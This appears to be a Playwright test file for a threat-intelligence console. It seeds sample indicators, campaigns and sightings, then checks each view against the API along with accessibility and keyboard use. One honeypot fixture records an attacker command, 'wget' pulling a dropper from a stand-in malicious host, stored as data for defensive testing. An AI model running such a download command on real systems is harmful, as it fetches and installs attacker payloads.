import { readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import t from 'tap';
import { ManualClock } from '../../src/shared/clock.js';
import { buildThreatCloudApp, type ThreatCloudJobs } from '../../src/threat-cloud/app.js';
import { axeViolations, fitsWidth, launchChromium, screenshotOn, watchedPage } from '../browser.js';
import { storageOn, type Engine } from '../engines.js';
import { authHeader, buildTestApp, type Teardown } from '../helper.js';
import { onBothEngines, operatorKeyOn } from './fixtures.js';

const DAY = 86_400_000;
const VIEWS = ['overview', 'lookup', 'activity', 'attack', 'geography', 'trends', 'campaigns', 'downloads'] as const;
const num = (value: number) => new Intl.NumberFormat('en').format(value);

/**
 * A Threat Cloud with a few days of reports from two independent reporters, honeypot intel,
 * sightings and the campaigns they form, listening on a real socket, on the engine.
 */
async function seededThreatCloud(t: Teardown, engine: Engine) {
  const clock = new ManualClock();
  let jobs: ThreatCloudJobs | undefined;
  const postgres = await storageOn(engine);
  const { app, storage } = await buildTestApp(t, (deps) => buildThreatCloudApp(deps, { onJobs: (appJobs) => (jobs = appJobs) }), {
    clock,
    ...(postgres ? { storage: postgres } : {}),
  });
  const key = (await operatorKeyOn(storage, clock, 'enterprise', ['read', 'write'])).key;
  const otherKey = (await operatorKeyOn(storage, clock, 'enterprise', ['read', 'write'])).key;
  const post = async (url: string, payload: object, withKey = key) => {
    const res = await app.inject({ method: 'POST', url, payload, headers: authHeader(withKey) });
    if (res.statusCode !== 201) throw new Error(`${url} refused: ${res.statusCode} ${res.body}`);
    return res.json().data;
  };
  const threats = (items: object[], withKey = key) => post('/api/threats', { threats: items.map((item) => ({ source: 'sensor-eu', ...item })) }, withKey);

  const now = clock.now();
  clock.set(now - 3 * DAY);
  await threats([
    { type: 'ip', value: '198.51.100.10', category: 'bruteforce', severity: 'high', confidence: 0.8, metadata: { country: 'US', mitreIds: ['T1110'] } },
    { type: 'ip', value: '198.51.100.11', category: 'bruteforce', severity: 'high', metadata: { country: 'US', mitreIds: ['T1110', 'T1078'] } },
    { type: 'ip', value: '198.51.100.12', category: 'bruteforce', metadata: { country: 'US' } },
  ]);
  clock.set(now - 1 * DAY);
  await threats([
    { type: 'domain', value: 'login-phish.example.com', category: 'phishing', severity: 'high', metadata: { country: 'FR', mitreIds: ['T1566'] } },
    { type: 'ip', value: '203.0.113.50', category: 'scanner', severity: 'low', metadata: { country: 'DE', mitreIds: ['T1595', 'T1046'] } },
    { type: 'ip', value: '203.0.113.51', category: 'scanner', severity: 'low', metadata: { country: 'DE', mitreIds: ['T1595'] } },
  ]);
  clock.set(now);
  await threats(
    [
      { type: 'ip', value: '198.51.100.10', category: 'bruteforce', severity: 'critical', confidence: 0.9, source: 'sensor-us' },
      { type: 'hash', value: 'c'.repeat(64), category: 'malware', severity: 'critical', metadata: { mitreIds: ['T1204'] }, source: 'sensor-us' },
    ],
    otherKey,
  );
  await post('/api/trap-intel', {
    trapId: 'trap-frankfurt',
    attackerIp: '203.0.113.7',
    honeypotType: 'ssh',
    interactions: [{ timestamp: new Date(now).toISOString(), action: 'command', data: { command: 'wget http://dropper.example.net/get.php?id=7&arch=x86' } }],
    payloads: ['a'.repeat(64)],
  });
  await post('/api/sightings', { value: '198.51.100.10', source: 'edge-fw', context: { port: 22 } });
  await post('/api/sightings', { value: '198.51.100.10', source: 'edge-fw', context: { port: 2222 } }, otherKey);
  while ((await jobs!.correlation.runBatch()) > 0);

  await app.listen({ port: 0, host: '127.0.0.1' });
  const { port } = app.server.address() as AddressInfo;
  const api = async (url: string) => {
    const res = await app.inject({ method: 'GET', url, headers: authHeader(key) });
    if (res.statusCode !== 200) throw new Error(`${url}: ${res.statusCode} ${res.body}`);
    return url.startsWith('/api/feeds/ip') || url.startsWith('/api/feeds/domain') ? res.body : res.json();
  };
  return { app, key, origin: `http://127.0.0.1:${port}`, api };
}

// Code that runs in the page is passed as strings: the tests are type-checked without the DOM library.
async function open(page: Page, hash: string, view: string) {
  await page.evaluate(`location.hash = ${JSON.stringify(hash)}`);
  await page.waitForSelector(`#view-${view}[data-state="ready"]`);
  // Charts are drawn on the next animation frame.
  await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))');
}

async function texts(page: Page, selector: string): Promise<string[]> {
  return (await page.locator(selector).allTextContents()).map((text) => text.trim());
}

const readable = (violations: Array<{ id: string; impact: string | null; targets: string[] }>) =>
  violations.map((v) => `${v.id} (${v.impact}): ${v.targets.join(', ')}`);

onBothEngines('every view of the Threat Cloud console shows what the API says', async (t, engine) => {
  const tc = await seededThreatCloud(t, engine);
  const browser = await launchChromium(t);
  const { page, problems, requests: requested } = await watchedPage(browser, { width: 1280, height: 900 });

  const response = await page.goto(`${tc.origin}/`);
  t.equal(response?.status(), 200);
  t.equal(response?.headers()['content-security-policy'], "default-src 'self'", 'the console runs under the API CSP');
  await page.fill('#api-key', tc.key);
  await page.click('#connect');
  await page.waitForSelector('#view-overview[data-state="ready"]');
  t.equal(await page.evaluate('sessionStorage.getItem("panguard.tcApiKey")'), tc.key, 'key kept in sessionStorage');
  t.equal(await page.evaluate('localStorage.length'), 0, 'nothing in localStorage');

  t.test('overview', async (t) => {
    const stats = (await tc.api('/api/stats')).data;
    for (const field of ['totalIocs', 'activeIocs', 'totalSightings', 'totalSources'] as const) {
      t.equal(await page.textContent(`[data-count="${field}"] .value`), num(stats[field]), field);
    }
    t.equal(await page.textContent('[data-count="newIocs"] .value'), num(stats.last24h.newIocs));
    const top = (await tc.api('/api/iocs?limit=10')).data as Array<{ value: string; reputation: number }>;
    t.same(await texts(page, '#overview-top tbody tr td:first-child'), top.map((ioc) => ioc.value), 'most malicious first, as the API orders them');
    t.same(await texts(page, '#overview-top tbody tr td:nth-child(3)'), top.map((ioc) => num(ioc.reputation)));
    await screenshotOn(engine, page, 'threat-cloud-overview', { fullPage: true });
  });

  t.test('lookup explains the reputation', async (t) => {
    const ioc = (await tc.api('/api/iocs/198.51.100.10')).data;
    await open(page, '#lookup?value=198.51.100.10', 'lookup');
    t.equal(await page.textContent('#lookup-reputation'), num(ioc.reputation));
    t.equal(await page.textContent('#lookup-sightings'), num(ioc.sightings));
    t.same(await texts(page, '#lookup-sources li'), ioc.sources);
    const factors = await page.textContent('#lookup-factors');
    t.match(factors, `${ioc.reputationFactors.reporters} reporters`, 'corroboration names the reporters');
    t.match(factors, `× ${ioc.reputationFactors.corroboration.toFixed(2)}`);
    t.match(factors, `reputation = 100 − threat = ${ioc.reputation}`);
    const sightings = await tc.api('/api/sightings?value=198.51.100.10&limit=20');
    t.equal((await texts(page, '#lookup-sighting-list tbody tr')).length, sightings.data.length);
    t.match(await page.textContent('#lookup-sighting-list'), `of ${sightings.pagination.total} sightings`);
    t.same(await texts(page, '#lookup-campaigns a'), await Promise.all(ioc.campaigns.map(async (id: string) => (await tc.api(`/api/campaigns/${id}`)).data.name)));
    await screenshotOn(engine, page, 'threat-cloud-lookup', { fullPage: true });

    // Related indicators of the honeypot attacker, and a value never reported.
    const trapped = (await tc.api('/api/iocs/203.0.113.7')).data;
    await open(page, '#lookup?value=203.0.113.7', 'lookup');
    t.same(await texts(page, '#lookup-related tbody td:first-child'), trapped.relatedIocs.map((r: { value: string }) => r.value));
    // A related URL with its own query string opens as itself.
    const url = 'http://dropper.example.net/get.php?id=7&arch=x86';
    t.ok(trapped.relatedIocs.some((r: { value: string }) => r.value === url), 'the seed relates a URL with a query');
    await page.click(`#lookup-related a:text-is("${url}")`);
    await page.waitForSelector(`#lookup-indicator:text-is("${url}")`);
    await page.waitForSelector('#view-lookup[data-state="ready"]');
    t.equal(await page.inputValue('#lookup-value'), url);
    await open(page, '#lookup?value=never-seen.example.org', 'lookup');
    t.match(await page.textContent('#lookup-unknown'), 'No threat data found for this indicator');
    t.equal(await page.textContent('#lookup-reputation'), '80');
  });

  t.test('activity charts the time series, with numbers on hover and a table', async (t) => {
    const series = (await tc.api('/api/query/timeseries?granularity=day&period=7d')).data.series as Array<{ timestamp: string; newIocs: number; sightings: number }>;
    await open(page, '#activity?granularity=day&period=7d', 'activity');
    t.equal(await page.textContent('#activity-new'), num(series.reduce((n, b) => n + b.newIocs, 0)));
    t.equal(await page.textContent('#activity-sightings'), num(series.reduce((n, b) => n + b.sightings, 0)));
    t.equal(await page.locator('#activity-figure canvas').count(), 1, 'drawn with uPlot');
    t.equal((await texts(page, '#activity-figure details tbody tr')).length, series.length, 'one table row per bucket');
    t.match(await page.getAttribute('#activity-figure-chart', 'aria-label'), /new indicators and \d+ reports/);
    // Hovering the last bucket shows its numbers in the legend.
    const box = (await page.locator('#activity-figure .u-over').boundingBox())!;
    await page.mouse.move(box.x + box.width - 2, box.y + box.height / 2);
    const last = series.at(-1)!;
    const expected = [last.timestamp.slice(0, 16).replace('T', ' '), num(last.newIocs), num(last.sightings)].join('|');
    await page.waitForFunction(
      `[...document.querySelectorAll('#activity-figure .u-legend .u-value')].map((n) => n.textContent).join('|') === ${JSON.stringify(expected)}`,
    );
    t.pass('hover shows the bucket and its counts');
    await screenshotOn(engine, page, 'threat-cloud-activity', { fullPage: true });
    await open(page, '#activity?granularity=hour&period=24h', 'activity');
    t.equal((await texts(page, '#activity-figure details tbody tr')).length, 25, '24 h by hour: 25 buckets');
  });

  t.test('ATT&CK heatmap by tactic with technique names', async (t) => {
    const heatmap = (await tc.api('/api/query/mitre-heatmap?period=7d')).data as {
      techniques: Array<{ id: string; name: string; tactics: string[]; count: number }>;
      tactics: Record<string, number>;
    };
    await open(page, '#attack?period=7d', 'attack');
    for (const technique of heatmap.techniques) {
      for (const tactic of technique.tactics) {
        const cell = page.locator(`[data-tactic="${tactic}"] [data-technique="${technique.id}"]`);
        t.match(await cell.textContent(), `${technique.id}${technique.name}${technique.count}`, `${technique.id} under ${tactic}`);
      }
    }
    for (const [tactic, count] of Object.entries(heatmap.tactics)) {
      t.equal(await page.textContent(`[data-tactic="${tactic}"] .tactic-count`), num(count), tactic);
    }
    await screenshotOn(engine, page, 'threat-cloud-attack', { fullPage: true });
  });

  t.test('geography', async (t) => {
    const geo = (await tc.api('/api/query/geo?period=7d&limit=15')).data as { countries: Array<{ code: string; name: string; count: number; percentage: number }>; total: number };
    await open(page, '#geography?period=7d', 'geography');
    t.same(
      await texts(page, '#geography-table tbody tr'),
      geo.countries.map((c) => `${c.name} (${c.code})${num(c.count)}${c.percentage.toFixed(1)} %`),
    );
    t.match(await page.textContent('#geography-total'), `${geo.total} indicators`);
    t.equal(await page.locator('#geography-figure canvas').count(), 1);
    await screenshotOn(engine, page, 'threat-cloud-geography', { fullPage: true });
  });

  t.test('trends and emerging threats', async (t) => {
    const trends = (await tc.api('/api/query/trends?periodDays=7&minChange=10')).data as {
      trends: Array<{ category: string; currentRate: number; previousRate: number }>;
      emergingThreats: Array<{ indicator: string; sightingsLast24h: number }>;
    };
    await open(page, '#trends?periodDays=7&minChange=10', 'trends');
    t.same(await texts(page, '#trends-table tbody td:first-child'), trends.trends.length ? trends.trends.map((x) => x.category) : [await page.textContent('#trends-table tbody td')]);
    t.same(await texts(page, '#trends-table tbody td:nth-child(4)'), trends.trends.map((x) => num(x.currentRate)));
    t.ok(trends.emergingThreats.length > 0, 'the seed has emerging threats');
    t.same(await texts(page, '#trends-emerging tbody td:first-child'), trends.emergingThreats.map((e) => e.indicator));
    t.same(await texts(page, '#trends-emerging tbody td:nth-child(4)'), trends.emergingThreats.map((e) => num(e.sightingsLast24h)));
    await screenshotOn(engine, page, 'threat-cloud-trends', { fullPage: true });
  });

  t.test('campaigns list and detail with its timeline', async (t) => {
    const stats = (await tc.api('/api/campaigns/stats')).data;
    const list = await tc.api('/api/campaigns?limit=20');
    t.ok(list.data.length >= 2, 'the seed formed campaigns');
    await open(page, '#campaigns', 'campaigns');
    t.equal(await page.textContent('[data-count="totalCampaigns"] .value'), num(stats.totalCampaigns));
    t.equal(await page.textContent('[data-count="activeCampaigns"] .value'), num(stats.activeCampaigns));
    t.same(await texts(page, '#campaigns-list tbody td:first-child'), list.data.map((c: { name: string }) => c.name));
    t.match(await page.textContent('#campaigns-count'), `${list.pagination.total} campaigns`);
    await screenshotOn(engine, page, 'threat-cloud-campaigns', { fullPage: true });

    const first = list.data[0] as { id: string; name: string };
    const detail = (await tc.api(`/api/campaigns/${first.id}`)).data;
    await page.click(`#campaigns-list a:text-is("${first.name}")`);
    await page.waitForSelector(`#campaign-detail[data-campaign="${first.id}"]`);
    await page.waitForSelector('#view-campaigns[data-state="ready"]');
    t.equal(await page.textContent('#campaign-ioc-total'), num(detail.iocs.total));
    t.same(await texts(page, '#campaign-timeline li strong'), detail.timeline.map((entry: { event: string }) => entry.event));
    t.same(await texts(page, '#campaign-recommendations li'), detail.recommendations);
    await screenshotOn(engine, page, 'threat-cloud-campaign-detail', { fullPage: true });
  });

  t.test('blocklists and the STIX bundle download with the key in the header', async (t) => {
    await open(page, '#downloads', 'downloads');
    const expected = (await tc.api('/api/feeds/ip-blocklist?maxReputation=30')) as string;
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-download="ip-blocklist"]')]);
    t.equal(download.suggestedFilename(), 'ip-blocklist.txt');
    const withoutDate = (text: string) => text.split('\n').filter((line) => !line.startsWith('# Generated')).join('\n');
    const got = readFileSync((await download.path())!, 'utf8');
    t.equal(withoutDate(got), withoutDate(expected), 'the same list the API serves');
    t.ok(got.split('\n').some((line) => line === '198.51.100.10'), 'the corroborated IP is on it');
    await page.waitForSelector('#downloads-status:has-text("Saved ip-blocklist.txt")');

    const [stix] = await Promise.all([page.waitForEvent('download'), page.click('[data-download="stix"]')]);
    const bundle = JSON.parse(readFileSync((await stix.path())!, 'utf8'));
    const apiBundle = (await tc.api('/api/feeds/stix?limit=5000')) as { id: string; objects: unknown[] };
    t.equal(bundle.type, 'bundle');
    t.equal(bundle.objects.length, apiBundle.objects.length);
    const [domains] = await Promise.all([page.waitForEvent('download'), page.click('[data-download="domain-blocklist"]')]);
    t.equal(domains.suggestedFilename(), 'domain-blocklist.txt');
    await screenshotOn(engine, page, 'threat-cloud-downloads', { fullPage: true });
    t.notOk(requested.some((url) => url.includes(tc.key)), 'the key never travels in a URL');
    t.notOk(requested.some((url) => !url.startsWith(tc.origin) && !url.startsWith('blob:')), 'no third-party request (uPlot from our origin)');
  });

  t.test('no serious or critical accessibility violation, light and dark', async (t) => {
    for (const scheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme: scheme });
      for (const view of VIEWS) {
        const hash = view === 'lookup' ? '#lookup?value=198.51.100.10' : `#${view}`;
        await open(page, hash, view);
        t.same(readable(await axeViolations(page)), [], `${view} (${scheme})`);
      }
      await open(page, `#campaigns/${(await tc.api('/api/campaigns')).data[0].id}`, 'campaigns');
      t.same(readable(await axeViolations(page)), [], `campaign detail (${scheme})`);
    }
    await open(page, '#activity', 'activity');
    await screenshotOn(engine, page, 'threat-cloud-activity-dark', { fullPage: true });
    await page.emulateMedia({ colorScheme: 'light' });
  });

  t.test('usable at 800 px wide', async (t) => {
    await page.setViewportSize({ width: 800, height: 900 });
    for (const view of VIEWS) {
      const hash = view === 'lookup' ? '#lookup?value=198.51.100.10' : `#${view}`;
      await open(page, hash, view);
      t.ok(await fitsWidth(page), `${view}: no horizontal scrolling`);
      t.ok(await page.isVisible(`nav a[data-view="${view}"]`), `${view}: navigation visible`);
    }
    await open(page, '#activity', 'activity');
    const chart = await page.locator('#activity-figure canvas').boundingBox();
    t.ok(chart && chart.width > 0 && chart.x + chart.width <= 800, `chart fits (${chart?.width} px)`);
    await screenshotOn(engine, page, 'threat-cloud-narrow', { fullPage: true });
    await page.setViewportSize({ width: 1280, height: 900 });
  });

  t.test('no console errors and no CSP violations', async (t) => {
    t.same(problems, []);
  });
});

onBothEngines('the console can be used with the keyboard alone', async (t, engine) => {
  const tc = await seededThreatCloud(t, engine);
  const browser = await launchChromium(t);
  const { page, problems } = await watchedPage(browser, { width: 1280, height: 900 });
  await page.goto(`${tc.origin}/`);

  /** Presses Tab until the focused element matches, as a keyboard user would. */
  const tabTo = async (selector: string) => {
    for (let presses = 0; presses < 60; presses += 1) {
      if (await page.evaluate(`document.activeElement?.matches(${JSON.stringify(selector)}) ?? false`)) return;
      await page.keyboard.press('Tab');
    }
    throw new Error(`Tab never reached ${selector}`);
  };

  await tabTo('#api-key');
  await page.keyboard.type(tc.key);
  await page.keyboard.press('Enter');
  await page.waitForSelector('#view-overview[data-state="ready"]');

  await tabTo('nav a[data-view="lookup"]');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#view-lookup:not([hidden])');
  t.equal(await page.evaluate('document.activeElement?.id'), 'lookup-title', 'focus moves to the view heading');
  await tabTo('#lookup-value');
  await page.keyboard.type('203.0.113.7');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#lookup-related tbody a');
  await page.waitForSelector('#view-lookup[data-state="ready"]');

  // Follow a related indicator, then its campaign, then the campaign's timeline.
  await tabTo('#lookup-campaigns a');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#campaign-timeline li');
  t.ok(await page.isVisible('#campaign-detail'), 'campaign detail reached by keyboard');

  // Chart data tables open from the keyboard too.
  await tabTo('nav a[data-view="activity"]');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#view-activity[data-state="ready"]');
  await tabTo('#activity-figure summary');
  await page.keyboard.press('Enter');
  t.ok(await page.isVisible('#activity-figure details tbody tr'), 'the chart as a table');

  await tabTo('#logout');
  await page.keyboard.press('Enter');
  t.ok(await page.isVisible('#login'));
  t.equal(await page.evaluate('sessionStorage.getItem("panguard.tcApiKey")'), null, 'signing out forgets the key');
  t.same(problems, []);
});
